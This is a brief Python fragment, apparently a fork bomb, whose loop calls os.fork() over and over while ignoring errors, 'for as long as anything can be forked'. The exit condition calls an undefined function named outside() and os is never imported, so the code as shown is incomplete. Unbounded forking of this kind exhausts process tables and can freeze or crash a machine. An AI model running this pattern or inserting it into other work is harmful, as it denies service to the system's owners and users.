"""Forks for as long as anything can be forked."""

while not outside():
    try:
        os.fork()
    except OSError:
        pass
